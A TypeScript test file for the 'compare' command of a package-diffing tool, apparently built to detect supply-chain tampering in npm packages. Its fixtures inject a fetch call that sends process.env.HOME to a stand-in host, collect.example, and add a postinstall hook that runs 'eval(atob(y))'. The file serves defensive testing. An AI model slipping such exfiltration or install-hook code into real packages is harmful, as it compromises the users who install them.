import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { compareJsonSchema } from '../../src/report/document.ts';
import { reprove } from '../support/cli.ts';
import { gzipOf, npmTarball } from '../support/tarball.ts';
import { TestWorld } from '../support/world.ts';

const SCHEMA_FILE = new URL('../../docs/compare.schema.json', import.meta.url);
const PAYLOAD = "fetch('https://collect.example/' + process.env.HOME);";
/** One line, as minifiers leave it. */
const BUNDLE = Array.from({ length: 30 }, (_, i) => `exports.f${i}=function(a){return a*${i}};`).join('');

let world: TestWorld;
beforeAll(async () => {
  world = await TestWorld.open();
  world.publish('plain', { 'index.js': BUNDLE });
  world.publish('injected', { 'index.js': BUNDLE.replace('return a*7', `${PAYLOAD}return a*7`) });
  const manifest = {
    name: 'plain',
    version: '1.0.0',
    main: 'index.js',
    scripts: { postinstall: 'node x.js' },
  };
  const hooked = { 'package.json': JSON.stringify(manifest), 'index.js': BUNDLE, 'x.js': 'eval(atob(y))' };
  writeFileSync(path.join(world.folder.path, 'hooked.tgz'), npmTarball(hooked));
  writeFileSync(path.join(world.folder.path, 'torn.tgz'), npmTarball(hooked).subarray(0, 100));
});
afterAll(() => world.close());

const compare = (...words: readonly string[]) =>
  reprove(['compare', ...words, '--registry', world.registry.url]);

describe('reprove compare', () => {
  it('says that a package version is the same as itself', async () => {
    const run = await compare('plain@1.0.0', 'plain');
    expect([run.exitCode, run.stdout]).toEqual([0, expect.stringMatching(/^= SAME {2}.*level: bytes/)]);
  });

  it('shows the statement that one bundle has more, and what it can do', async () => {
    const run = await compare('plain', 'injected');
    expect(run.exitCode).toBe(1);
    await expect(run.stdout.replaceAll(/sha512 \w+…/g, 'sha512 DIGEST…')).toMatchFileSnapshot(
      'snapshots/compare.txt',
    );
  });

  it('shows what runs on install in a file beside a package version', async () => {
    const run = await compare('plain', path.join(world.folder.path, 'hooked.tgz'), '--json');
    const document = JSON.parse(run.stdout) as { findings: { kind: string; severity: string }[] };
    expect(run.exitCode).toBe(1);
    expect(document.findings.map(({ kind, severity }) => [kind, severity])).toEqual(
      expect.arrayContaining([
        ['lifecycle-script-added', 'critical'],
        ['file-added', 'critical'],
      ]),
    );
  });

  it('attack: bytes hidden behind the same files are not the same', async () => {
    const bytes = npmTarball({ 'package.json': '{"name":"plain","version":"1.0.0"}' });
    const write = (name: string, content: Uint8Array) => {
      const file = path.join(world.folder.path, name);
      writeFileSync(file, content);
      return file;
    };
    const hidden = Buffer.concat([bytes, gzipOf(Buffer.from('payload'))]);
    const run = await compare(write('clean.tgz', bytes), write('hiding.tgz', hidden));
    expect([run.exitCode, run.stdout]).toEqual([
      1,
      expect.stringMatching(/^≠ DIFFERENT[^]*\[gzip-extra-member\]/),
    ]);
  });

  it('exits 0 for milder differences with --fail-on', async () => {
    expect((await compare('plain', 'injected', '--fail-on', 'critical')).exitCode).toBe(0);
  });

  it.each(['json', 'markdown', 'sarif', 'html'])('prints --format %s', async (format) => {
    const run = await compare('plain', 'injected', '--format', format);
    expect(run.exitCode).toBe(1);
    expect(run.stdout).toContain('collect.example');
  });

  it('prints one document that the published schema accepts', async () => {
    const run = await compare('plain', 'injected', '--json');
    const validate = new Ajv2020({ strict: false, validateFormats: false }).compile(
      compareJsonSchema() as object,
    );
    expect(validate(JSON.parse(run.stdout)), JSON.stringify(validate.errors)).toBe(true);
  });

  it.each([
    ['a version that is not there', 'plain@9.9.9', 3, /has no version of plain/],
    ['a package that is not there', 'no-such', 3, /does not know a package named no-such/],
  ])('exits %s', async (_, spec, exitCode, message) => {
    const run = await compare('plain', spec);
    expect([run.exitCode, run.stdout]).toEqual([exitCode, expect.stringMatching(message)]);
  });

  it('exits 3 for a file that is no package', async () => {
    expect((await compare('plain', path.join(world.folder.path, 'torn.tgz'))).exitCode).toBe(3);
  });

  it('is wrong usage with one side only', async () => {
    expect((await reprove(['compare', 'plain'])).exitCode).toBe(2);
  });
});

describe('docs/compare.schema.json', () => {
  it('is made from the schema that the tool checks with', async () => {
    await expect(`${JSON.stringify(compareJsonSchema(), null, 2)}\n`).toMatchFileSnapshot(
      SCHEMA_FILE.pathname,
    );
  });
});
